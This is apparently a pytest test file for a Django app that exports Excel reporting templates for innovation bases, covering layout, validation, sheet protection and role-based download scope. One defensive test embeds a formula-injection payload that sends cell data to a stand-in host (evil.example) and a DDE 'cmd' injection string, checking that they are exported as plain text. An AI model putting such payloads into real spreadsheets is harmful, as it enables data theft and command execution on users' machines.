"""The templates officials download: layout, pre-filled values, validation, protection, safe text, scope."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from shuangchuang.accounts.models import Role
from shuangchuang.monitoring.excel import bases_workbook, read_upload, report_workbook
from shuangchuang.monitoring.models import Indicator, IndicatorVersion
from shuangchuang.registry.models import Direction

from .factories import make_period, make_report, make_small_catalogue

pytestmark = pytest.mark.django_db

GUANGXI = ["B3-012", "B3-041", "B3-074"]  # 横县 (创业就业), 柳州高新区 (融通创新), 桂林高新区 (精益创业)


@pytest.fixture
def catalogue(registry):
    indicators = make_small_catalogue()
    # one indicator that only the 融通创新 direction reports
    contracts = Indicator.objects.create(code="TECH_CONTRACTS", section="融通", order=20, frequency="annual")
    contracts.directions.set([Direction.objects.get(name="融通创新")])
    IndicatorVersion.objects.create(
        indicator=contracts, valid_from_year=2020, name="技术合同成交额", unit="千元", value_type="money"
    )
    return indicators


def open_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_a_base_template_has_sections_units_saved_and_previous_values(catalogue):
    make_report("B3-012", make_period(2024), JOBS=90)
    report = make_report("B3-012", make_period(2025), JOBS=120, REVENUE=5000.5, HAS_FUND=1)

    workbook = open_xlsx(report_workbook(report))

    sheet = workbook["填报数据"]
    assert [c.value for c in sheet[3]] == [
        "指标代码",
        "指标名称",
        "计量单位",
        "本期数值",
        "上期数值",
        "情况说明",
        "指标解释",
    ]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=4) if row[0].value}
    assert list(rows)[:4] == ["就业", "JOBS", "JOBS_GRAD", "JOBS_GROWTH"]  # a section, then its indicators
    jobs = rows["JOBS"]
    assert (jobs[1].value, jobs[2].value, jobs[3].value, jobs[4].value) == ("带动就业人数", "人", 120, 90)
    assert rows["REVENUE"][3].value == 5000.5
    assert rows["HAS_FUND"][3].value == "是"
    assert "TECH_CONTRACTS" not in rows  # not this base's direction
    assert sheet.row_dimensions[jobs[0].row].outline_level == 1
    assert "B3-012" in [c.value for c in sheet[2]] and "2025A" in [c.value for c in sheet[2]]


def test_only_input_cells_are_unlocked_and_the_sheet_is_protected_without_a_password(catalogue):
    report = make_report("B3-012", make_period(2025))

    sheet = open_xlsx(report_workbook(report))["填报数据"]

    assert sheet.protection.sheet and not sheet.protection.password
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=4) if row[0].value}
    unlocked = {
        (code, cell.column_letter) for code, row in rows.items() for cell in row if not cell.protection.locked
    }
    entered = {"JOBS", "JOBS_GRAD", "REVENUE", "RD", "HAS_FUND", "NOTE"}  # not the derived ones
    assert unlocked == {(code, column) for code in entered for column in ("D", "F")}
    assert sheet["A3"].protection.locked


def test_data_validation_follows_the_value_type(catalogue):
    report = make_report("B3-012", make_period(2025))

    sheet = open_xlsx(report_workbook(report))["填报数据"]

    rows = {row[0].value: row[0].row for row in sheet.iter_rows(min_row=4) if row[0].value}
    rules = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    jobs = rules[f"D{rows['JOBS']}"]
    assert (jobs.type, jobs.operator, jobs.formula1) == ("whole", "greaterThanOrEqual", "0")
    revenue = rules[f"D{rows['REVENUE']}"]
    assert (revenue.type, revenue.formula1) == ("decimal", "0")
    assert rules[f"D{rows['HAS_FUND']}"].formula1 == '"是,否"'
    assert "人" in jobs.prompt


def test_a_hidden_notes_sheet_explains_and_names_the_period(catalogue):
    report = make_report("B3-012", make_period(2025, 3))

    notes = open_xlsx(report_workbook(report))["说明"]

    assert notes.sheet_state == "hidden"
    texts = [c.value for row in notes.iter_rows() for c in row if c.value]
    assert "2025Q3" in texts
    assert any("没有密码" in t for t in texts)


def test_the_bases_sheet_has_one_row_per_base_and_a_hidden_code_row(catalogue):
    period = make_period(2025)
    reports = [
        make_report("B3-012", period, JOBS=10),
        make_report("B3-041", period, TECH_CONTRACTS=777),
        make_report("B3-074", period, state="submitted", JOBS=30),
    ]

    sheet = open_xlsx(bases_workbook(period, reports, "广西壮族自治区发展改革委"))["填报数据"]

    header = [c.value for c in sheet[1]]
    codes = [c.value for c in sheet[2]]
    assert header[:4] == ["基地编号", "基地名称", "填报状态", "带动就业人数（人）"]
    assert codes[:4] == ["base_code", "base_name", "state", "JOBS"]
    assert sheet.row_dimensions[2].hidden
    assert [sheet.cell(r, 1).value for r in (3, 4, 5)] == GUANGXI
    column = {code: i + 1 for i, code in enumerate(codes)}
    assert sheet.cell(3, column["JOBS"]).value == 10
    assert sheet.cell(4, column["TECH_CONTRACTS"]).value == 777
    # 横县 does not report technology contracts: the cell is locked; 桂林 is submitted: its row is locked
    assert sheet.cell(3, column["TECH_CONTRACTS"]).protection.locked
    assert not sheet.cell(4, column["TECH_CONTRACTS"]).protection.locked
    assert sheet.cell(5, column["JOBS"]).protection.locked
    assert sheet.cell(5, 3).value == "已报送"


def test_formula_like_text_is_exported_as_text_not_as_a_formula(catalogue):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    report = make_report("B3-012", make_period(2025), NOTE=attack, JOBS=900)
    report.values.filter(indicator__code="JOBS").update(
        flags=[{"kind": "peer", "median": "90 人", "z": "9.0"}], explanation="+cmd|' /C calc'!A0"
    )

    data = report_workbook(report)

    sheet = open_xlsx(data)["填报数据"]
    note = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "NOTE")
    jobs = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "JOBS")
    assert (note[3].value, note[3].data_type) == (attack, "s")
    assert (jobs[5].value, jobs[5].data_type) == ("+cmd|' /C calc'!A0", "s")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_downloaded_template_reads_back_unchanged(catalogue):
    period = make_period(2025)
    report = make_report("B3-012", period, JOBS=120, REVENUE=5000.5, NOTE="=1+1")

    upload = read_upload(report_workbook(report))

    assert (upload.layout, upload.period_code, upload.errors) == ("report", "2025A", [])
    [row] = upload.rows
    assert row.base_code == "B3-012"
    assert (row.values["JOBS"], row.values["REVENUE"], row.values["NOTE"]) == ("120", "5000.5", "=1+1")


# Downloads through the pages: scope


def test_an_authority_downloads_its_bases_in_one_sheet(catalogue, make_user, client_for):
    period = make_period(2025)
    for code in [*GUANGXI, "B3-001"]:
        make_report(code, period)
    client = client_for(make_user(Role.AUTHORITY, authority="drc-450000"))

    response = client.get(f"/monitoring/excel/{period.code}/bases.xlsx")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = open_xlsx(response.content)["填报数据"]
    assert [sheet.cell(r, 1).value for r in range(3, sheet.max_row + 1)] == GUANGXI


def test_an_authority_cannot_download_another_authoritys_base(catalogue, make_user, client_for):
    period = make_period(2025)
    make_report("B3-001", period)  # 晋城, reviewed by 山西
    client = client_for(make_user(Role.AUTHORITY, authority="drc-450000"))

    response = client.get(f"/monitoring/excel/{period.code}/B3-001.xlsx")

    assert response.status_code == 404


def test_an_operator_downloads_its_own_report_only(catalogue, make_user, client_for):
    period = make_period(2025)
    make_report("B3-012", period)
    make_report("B3-041", period)
    client = client_for(make_user(Role.OPERATOR, base="B3-012"))

    assert client.get(f"/monitoring/excel/{period.code}/B3-012.xlsx").status_code == 200
    assert client.get(f"/monitoring/excel/{period.code}/B3-041.xlsx").status_code == 404
    sheet = open_xlsx(client.get(f"/monitoring/excel/{period.code}/bases.xlsx").content)["填报数据"]
    assert sheet.cell(3, 1).value == "B3-012" and sheet.cell(4, 1).value is None


def test_a_security_administrator_downloads_nothing(catalogue, make_user, client_for):
    period = make_period(2025)
    make_report("B3-012", period)
    client = client_for(make_user(Role.SECURITY_ADMIN))

    assert client.get(f"/monitoring/excel/{period.code}/B3-012.xlsx").status_code == 403
